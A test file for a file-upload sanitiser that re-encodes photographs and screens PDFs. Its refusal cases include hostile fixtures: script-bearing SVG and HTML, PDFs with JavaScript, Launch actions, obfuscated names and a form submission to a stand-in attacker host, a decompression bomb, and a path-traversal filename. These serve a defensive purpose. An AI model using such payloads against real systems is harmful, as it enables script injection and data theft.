import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { type ErrorCode, isDomainError } from "#app/kernel/errors.ts";
import { type PaperKind, prepareFile } from "./prepare.server.ts";
import { sniffType } from "./sniff.ts";

const latin1 = (text: string) => Buffer.from(text, "latin1");

/** A PNG whose header alone is real: it claims a size and holds no pixels. */
function claimedPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const chunk = (type: string, body: Buffer) => {
    const named = Buffer.concat([latin1(type), body]);
    const framed = Buffer.alloc(named.length + 8);
    framed.writeUInt32BE(body.length, 0);
    named.copy(framed, 4);
    framed.writeUInt32BE(crc32(named), named.length + 4);
    return framed;
  };
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(1024))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return ~crc >>> 0;
}

const pdf = (body: string) => latin1(`%PDF-1.7\n${body}\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`);
const packedAs = (dictionary: string, body: string) =>
  pdf(`5 0 obj <<${dictionary}>> stream\n${deflateSync(latin1(body)).toString("latin1")}\nendstream\nendobj`);
const packed = (body: string) => packedAs("/Type /ObjStm /Filter /FlateDecode", body);

let jpeg: Buffer;
let png: Buffer;
let webp: Buffer;
beforeAll(async () => {
  const picture = sharp({ create: { width: 3000, height: 1500, channels: 3, background: "#12403A" } });
  jpeg = await picture
    .clone()
    .withExif({ IFD0: { Make: "SecretCamera" }, IFD3: { GPSLatitude: "25/1 5/1 0/1" } })
    .jpeg()
    .toBuffer();
  png = await picture.clone().png().toBuffer();
  webp = await picture.clone().webp().toBuffer();
});

describe("what is taken", () => {
  it.each(["jpeg", "png", "webp"] as const)(
    "a %s photograph is redrawn, smaller and without its EXIF",
    async (format) => {
      const bytes = { jpeg, png, webp }[format];
      const file = await prepareFile("photograph", { name: "茶山.svg", bytes });
      expect(file).toMatchObject({
        mediaType: "image/webp",
        width: 2000,
        height: 1000,
        originalName: "茶山.svg",
      });
      const drawn = await sharp(file.bytes).metadata();
      expect(drawn).toMatchObject({ format: "webp", width: 2000 });
      expect(drawn.exif).toBeUndefined();
      expect(file.bytes.includes("SecretCamera")).toBe(false);
      expect((await sharp(file.thumbnail!).metadata()).width).toBe(480);
      expect(sniffType(file.bytes)).toBe("image/webp");
    },
  );

  it("a photograph taken sideways is set upright", async () => {
    const sideways = await sharp({ create: { width: 400, height: 200, channels: 3, background: "red" } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    expect(await prepareFile("photograph", { name: "a.jpg", bytes: sideways })).toMatchObject({
      width: 200,
      height: 400,
    });
  });

  it("a document may be a plain PDF, kept as it is, or a picture of paper", async () => {
    const bytes = pdf("1 0 obj <</Type /Catalog /OpenAction [3 0 R /Fit]>> endobj");
    const file = await prepareFile("document", { name: "../etc/执照\u0000.pdf", bytes });
    expect(file).toMatchObject({ mediaType: "application/pdf", thumbnail: null, originalName: "执照.pdf" });
    expect(file.bytes.equals(bytes)).toBe(true);
    expect(await prepareFile("document", { name: "scan", bytes: jpeg })).toMatchObject({
      mediaType: "image/webp",
    });
  });
});

describe("a PDF as scanners and printers write it is taken", () => {
  it.each<[string, () => Buffer]>([
    [
      "words found by chance among pixels",
      () =>
        pdf("4 0 obj <</Filter /DCTDecode>> stream\n\u00ff/JS\u0001/JavaScript /Launch\nendstream endobj"),
    ],
    ["objects packed as usual", () => packed("1 0 2 20 <</Type /Catalog /Pages 2 0 R>> <</Type /Pages>>")],
    [
      "a table of references with its predictor",
      () =>
        pdf(
          `6 0 obj <</Type /XRef /Filter /FlateDecode /DecodeParms <</Predictor 12>>>> stream\n${deflateSync(Buffer.alloc(40)).toString("latin1")}\nendstream`,
        ),
    ],
    [
      "a link and a first page",
      () => pdf("<</OpenAction [3 0 R /Fit]>> <</S /URI /URI (https://example.test)>>"),
    ],
  ])("%s", async (_, make) => {
    expect(await prepareFile("document", { name: "a.pdf", bytes: make() })).toMatchObject({
      mediaType: "application/pdf",
    });
  });
});

describe("what is refused", () => {
  const cases: [string, PaperKind, () => Uint8Array, ErrorCode][] = [
    ["a PNG that claims 60000×60000", "photograph", () => claimedPng(60_000, 60_000), "file.too_many_pixels"],
    ["a PNG of 1×1", "photograph", () => claimedPng(1, 1), "file.too_narrow"],
    ["a PNG of 30000×16", "document", () => claimedPng(30_000, 16), "file.too_narrow"],
    ["a PNG without pixels", "photograph", () => claimedPng(64, 64), "file.unreadable"],
    ["a JPEG cut in half", "photograph", () => jpeg.subarray(0, jpeg.length / 2), "file.unreadable"],
    ["a JPEG of three bytes", "photograph", () => Buffer.from([0xff, 0xd8, 0xff]), "file.unreadable"],
    ["an SVG named .jpg", "photograph", () => latin1('<svg onload="alert(1)"/>'), "file.type_not_allowed"],
    ["HTML named .jpg", "photograph", () => latin1("<script>alert(1)</script>"), "file.type_not_allowed"],
    ["a GIF", "photograph", () => latin1("GIF89a......"), "file.type_not_allowed"],
    ["nothing", "photograph", () => new Uint8Array(), "file.type_not_allowed"],
    ["a PDF as a photograph", "photograph", () => pdf(""), "file.type_not_allowed"],
    [
      "more than 10 MB of photograph",
      "photograph",
      () => new Uint8Array(10 * 1024 * 1024 + 1),
      "file.too_large",
    ],
    ["more than 20 MB of document", "document", () => new Uint8Array(20 * 1024 * 1024 + 1), "file.too_large"],
    ["a PDF cut off", "document", () => latin1("%PDF-1.7\n1 0 obj"), "file.unreadable"],
    ["a PDF with a script", "document", () => pdf("<</S /JavaScript /JS (app.alert(1))>>"), "file.unsafe"],
    ["a script under a written-out name", "document", () => pdf("<</S /J#61vaScript>>"), "file.unsafe"],
    ["a PDF that launches", "document", () => pdf("<</OpenAction <</S /Launch /F (calc)>>>>"), "file.unsafe"],
    ["a PDF with an attachment", "document", () => pdf("<</Type /EmbeddedFile>>"), "file.unsafe"],
    ["a script in a packed object", "document", () => packed("<</S/JavaScript>>"), "file.unsafe"],
    [
      "a script packed behind long words",
      "document",
      () => packedAs(`/Type /ObjStm ${"/Pad 1 ".repeat(200)}/Filter /FlateDecode`, "<</S/JavaScript>>"),
      "file.unsafe",
    ],
    [
      "a script packed under a written-out name",
      "document",
      () => packedAs("/Type /Obj#53tm /Filter /FlateDecode", "<</S/JavaScript>>"),
      "file.unsafe",
    ],
    [
      "a packed object under two filters",
      "document",
      () => packedAs("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", "1 0 <<>>"),
      "file.unsafe",
    ],
    [
      "a packed object behind a predictor",
      "document",
      () => packedAs("/Type /ObjStm /Filter /FlateDecode /DecodeParms <</Predictor 12>>", "1 0 <<>>"),
      "file.unsafe",
    ],
    [
      "a script behind a comment that begins a stream",
      "document",
      () => pdf("% stream\n7 0 obj <</S /JavaScript>> endobj\nendstream"),
      "file.unsafe",
    ],
    [
      "a packed script behind such a comment",
      "document",
      () =>
        pdf(
          `% stream\n7 0 obj <</Type /ObjStm>> stream\n${deflateSync(latin1("<</JS 1>>")).toString("latin1")}\nendstream`,
        ),
      "file.unsafe",
    ],
    [
      "a PDF that sends what is typed",
      "document",
      () => pdf("<</S /SubmitForm /F (http://evil.test)>>"),
      "file.unsafe",
    ],
    ["a PDF under lock", "document", () => pdf("trailer <</Encrypt 9 0 R>>"), "file.locked"],
    ["a packed object that explodes", "document", () => packed(" ".repeat(40 * 1024 * 1024)), "file.unsafe"],
  ];

  it.each(cases)("%s", async (_, kind, make, code) => {
    const refusal = await prepareFile(kind, { name: "a.jpg", bytes: make() }, "photo").catch(
      (e: unknown) => e,
    );
    expect(isDomainError(refusal, code), String(refusal)).toBe(true);
    expect(refusal).toMatchObject({ issues: [{ path: ["photo"], code }] });
  });
});
